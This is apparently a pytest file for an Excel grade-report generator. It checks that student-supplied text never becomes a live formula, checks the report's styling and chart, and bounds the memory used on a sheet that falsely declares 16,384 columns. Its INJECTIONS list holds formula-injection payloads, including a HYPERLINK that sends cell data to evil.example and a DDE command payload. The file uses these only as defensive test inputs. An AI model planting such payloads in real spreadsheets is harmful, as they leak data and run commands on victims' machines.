"""The grade report's .xlsx as a teacher opens it: a styled workbook (bold frozen header,
widths that fit, number formats, a native chart, the statistics stated, the bad rows sheet),
where every text cell stays text, and a sheet costs what its cells hold, not what it declares.
"""

import io
import re
import tracemalloc
import zipfile

import openpyxl
import pytest

from academy.ai import services, storage
from academy.ai.sheet_reader import MAX_READ_COLUMNS, read_sheet
from academy.ai.uploads import UploadRefused
from tests.ai_helpers import row, sheet_bytes

pytestmark = pytest.mark.django_db(transaction=True)

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&C2,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@x",
]
# Reading a 200-row sheet that declares A1:XFD200 but holds 4 columns: the rows padded to
# 16,384 cells took 26 MB before the fix; what it holds is a few KiB. 4 MiB is far from both.
READ_PEAK_BOUND_BYTES = 4 * 1024 * 1024


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)


def text_sheet_bytes(rows: list[list]) -> bytes:
    """A sheet whose text cells are stored as text, as Excel stores a typed '=HYPERLINK(...)
    (openpyxl's append would make them formulas of the input itself)."""
    book = openpyxl.Workbook()
    sheet = book.active
    for r, values in enumerate(rows, start=1):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(row=r, column=c, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def run_job(member, content: bytes) -> str:
    job_id = services.ai_job_create(tenant_id=member.tenant.pk, created_by_id=member.user.pk,
                                     job_type="excel.grade_report", payload={},
                                     queue=False).job_id
    name = storage.save_upload(tenant_id=member.tenant.pk, job_id=job_id,
                               content=io.BytesIO(content))
    job = row(job_id)
    job.upload.name = name
    job.save(update_fields=["upload"])
    assert services.run_ai_job(job_id=job_id, worker_id="in-process") == "done"
    return job_id


def report_bytes(job_id: str) -> bytes:
    with storage.open_file(row(job_id).report.name) as report:
        return report.read()


def report_of(job_id: str) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(report_bytes(job_id)))


def test_every_text_cell_stays_text_whatever_it_starts_with(alice):
    rows = [["Student", "=1+2", "Math"]]
    rows += [[name, 50 + n, 60] for n, name in enumerate(INJECTIONS)]
    job_id = run_job(alice, text_sheet_bytes(rows))
    book = report_of(job_id)
    students = book["Students"]
    assert [cell.value for cell in students[1]][:3] == ["Student", "=1+2", "Math"]
    assert {cell.value for cell in students["A"][1:]} == set(INJECTIONS)
    assert book["Subjects"]["A2"].value == "=1+2"
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert all(c.quotePrefix for c in students["A"][1:])  # an edit in Excel keeps it text
    # In the file itself: no formula element anywhere, so no program evaluates anything.
    with zipfile.ZipFile(io.BytesIO(report_bytes(job_id))) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        assert not [n for n in sheets if re.search(rb"<f[ >]", archive.read(n))]


def test_the_report_is_styled_and_states_its_statistics(alice):
    rows = [["Student", "Korean", "Math"], ["김민준", 90, 80.5], ["이서연", 70, 95],
            ["박지후", "absent", 70]]
    book = report_of(run_job(alice, sheet_bytes(rows)))
    assert book.sheetnames == ["Students", "Subjects", "Bad rows"]
    students = book["Students"]
    assert [c.value for c in students[1]] == ["Student", "Korean", "Math", "Total", "Average",
                                              "Rank"]
    assert all(c.font.b for c in students[1])
    assert students.freeze_panes == "A2"
    assert students["E2"].number_format == "0.00"  # the average
    assert students.column_dimensions["A"].width >= len("김민준") * 2
    subjects = book["Subjects"]
    assert subjects["G1"].value == "Std dev (population)"
    notes = " ".join(str(c.value) for c in subjects["A"] if c.value)
    assert "population standard deviation" in notes and "STDEV.P" in notes
    assert subjects.freeze_panes == "A2"
    bad = book["Bad rows"]
    assert [c.value for c in bad[2]] == [4, "score for 'Korean' is not a number ('absent')"]
    assert bad.freeze_panes == "A2" and bad["A1"].font.b


def test_the_subjects_sheet_carries_a_native_excel_chart_of_the_means(alice):
    rows = [["Student", "Korean", "Math", "English"], ["Kim", 90, 80, 70], ["Lee", 70, 60, 50]]
    job_id = run_job(alice, sheet_bytes(rows))
    with storage.open_file(row(job_id).report.name) as report, \
            zipfile.ZipFile(io.BytesIO(report.read())) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1
        chart = archive.read(charts[0]).decode()
    assert "<barChart>" in chart
    refs = chart.replace("'", "")
    assert "<tx><strRef><f>Subjects!C1</f>" in refs  # the series is named by the Mean header
    assert "<val><numRef><f>Subjects!$C$2:$C$4</f>" in refs  # the means of three subjects
    assert "<cat><strRef><f>Subjects!$A$2:$A$4</f>" in refs  # labelled by subject name


def padded_dimension_sheet(rows: int) -> bytes:
    """A sheet of 4 real columns whose <dimension> claims A1:XFD{rows} (16,384 columns)."""
    content = sheet_bytes([["Student", "Korean", "Math", "English"]]
                          + [[f"s{n}", n % 101, 50, 60] for n in range(rows - 1)])
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rb'<dimension ref="[^"]*" ?/>',
                                      f'<dimension ref="A1:XFD{rows}"/>'.encode(), data)
                assert count == 1
            target.writestr(item, data)
    return out.getvalue()


def peak_bytes(work) -> int:
    tracemalloc.start()
    try:
        work()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_sheet_declaring_16384_columns_costs_what_its_4_columns_hold():
    content = padded_dimension_sheet(200)
    declared = openpyxl.load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    assert declared.max_column == 16384  # what the file claims

    _name, rows = read_sheet(io.BytesIO(content), max_rows=10_000)
    assert len(rows) == 200
    assert {len(values) for _, values in rows} == {MAX_READ_COLUMNS}  # not 16,384
    assert peak_bytes(lambda: read_sheet(io.BytesIO(content), max_rows=10_000)) \
        < READ_PEAK_BOUND_BYTES


def test_a_header_with_more_subject_columns_than_allowed_is_refused_when_read():
    header = ["Student", *(f"subject {n}" for n in range(MAX_READ_COLUMNS))]
    content = sheet_bytes([header, ["Kim", *([1] * (len(header) - 1))]])
    with pytest.raises(UploadRefused) as refused:
        read_sheet(io.BytesIO(content), max_rows=10)
    assert refused.value.code == "too_many_columns"
